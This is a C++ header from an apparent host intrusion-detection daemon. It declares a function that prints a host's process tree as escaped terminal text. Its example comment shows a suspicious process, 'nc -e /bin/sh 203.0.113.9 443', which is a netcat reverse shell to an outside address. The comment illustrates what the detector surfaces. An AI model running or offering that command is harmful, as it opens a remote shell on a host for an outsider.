// The processes of a host as its daemon knows them, as a tree: those that run, and under whom they were started, also
// where that one is gone.
//
//   systemd(1) root  /sbin/init
//   |- sshd(812) root  /usr/sbin/sshd -D
//   |  `- bash(9921) alice  gone
//   |     `- nc(9933) alice  nc -e /bin/sh 203.0.113.9 443
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "src/json_value.h"
#include "src/report/terminal.h"

namespace detectd {

// `processes` are lines of the answer to `tree` (src/control/process_list.h), whatever somebody wrote into them.
// Everything is escaped. `center` is marked.
std::string host_tree_text(const std::vector<JsonValue>& processes, std::optional<uint32_t> center,
                           const Terminal& terminal);

}  // namespace detectd
